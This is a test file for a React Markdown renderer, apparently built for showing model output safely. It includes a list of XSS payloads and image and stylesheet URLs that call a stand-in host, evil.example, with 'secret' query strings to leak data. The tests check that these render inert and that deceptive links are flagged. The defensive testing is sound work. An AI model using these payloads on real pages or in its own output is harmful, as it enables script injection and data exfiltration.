import { cleanup, fireEvent, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { safeLink } from "./links";
import { Markdown } from "./render";

afterEach(cleanup);

const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "text <svg onload=alert(1)> more",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:x)",
  "[click](\u0001javascript:alert(1))",
  "![x](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![][ref]\n\n[ref]: https://evil.example/pixel.png",
  "<iframe src=https://evil.example></iframe>",
  "<style>@import url(https://evil.example)</style>",
  "<a href=javascript:alert(1)>x</a>",
  "| <img src=x onerror=alert(1)> |\n|---|\n| ![x](https://evil.example) |",
  "- <img src=x onerror=alert(1)>\n- ![](//evil.example/x.png)",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "<https://ok.example> <javascript:alert(1)>",
];

test.each(HOSTILE)("%s creates no element that loads or runs code", (text) => {
  const { container } = render(<Markdown text={text} />);
  expect(
    container.querySelectorAll("img, script, svg:not(.icon), iframe, style, object, embed, video, audio"),
  ).toHaveLength(0);
  for (const link of container.querySelectorAll("a")) {
    expect(link.protocol).toMatch(/^(https?|mailto):$/);
    expect(link.rel).toBe("noopener noreferrer");
  }
  for (const element of container.querySelectorAll("*")) {
    for (const name of element.getAttributeNames()) expect(name).not.toMatch(/^on|^style$|^src/);
  }
});

test("shows HTML from a model as text", () => {
  const { container } = render(<Markdown text={"a <b onclick=x>bold</b> c"} />);
  expect(container.textContent).toBe("a <b onclick=x>bold</b> c");
});

test("replaces a remote image with text that names its host", () => {
  const { container } = render(<Markdown text="![a cat](https://evil.example/cat.png?d=secret)" />);
  expect(container.textContent).toBe("Image from evil.example, not loaded: a cat");
});

test("shows the real host of a link whose text names another", () => {
  const { container } = render(<Markdown text="[https://bank.example/login](https://evil.example/x)" />);
  expect(container.textContent).toContain("(evil.example)");
  expect(safeLink("https://en.wikipedia.org/wiki/X", "wikipedia.org")?.warning).toBeNull();
  expect(safeLink("https://evil.example", "see bank.example now")?.warning).toBe("evil.example");
});

test("confirms a long link and shows it in full", () => {
  expect(safeLink(`https://x.example/?q=${"a".repeat(300)}`, "x")?.isLong).toBe(true);
  expect(safeLink(`https://x.example/#${"a".repeat(300)}`, "x")?.isLong).toBe(true);
  expect(safeLink("https://x.example/?q=a", "x")?.isLong).toBe(false);
  const { getByText } = render(<Markdown text={`[go](https://x.example/?q=${"a".repeat(300)})`} />);
  fireEvent.click(getByText("go"));
  expect(document.querySelector("dialog")?.textContent).toContain("a".repeat(300));
});
